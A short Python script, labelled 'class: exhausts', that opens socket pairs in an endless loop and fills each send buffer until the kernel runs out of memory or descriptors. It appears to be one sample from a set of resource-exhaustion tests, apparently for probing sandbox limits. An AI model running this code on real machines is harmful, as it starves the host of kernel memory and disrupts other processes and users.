# class: exhausts
# what: fills the buffers of pipes and sockets, which are the kernel's memory
import os, socket
kept = []
try:
    while True:
        pair = socket.socketpair()
        kept.append(pair)
        pair[0].setblocking(False)
        try:
            while True:
                pair[0].send(b"x" * 65536)
        except BlockingIOError:
            pass
except OSError:
    pass
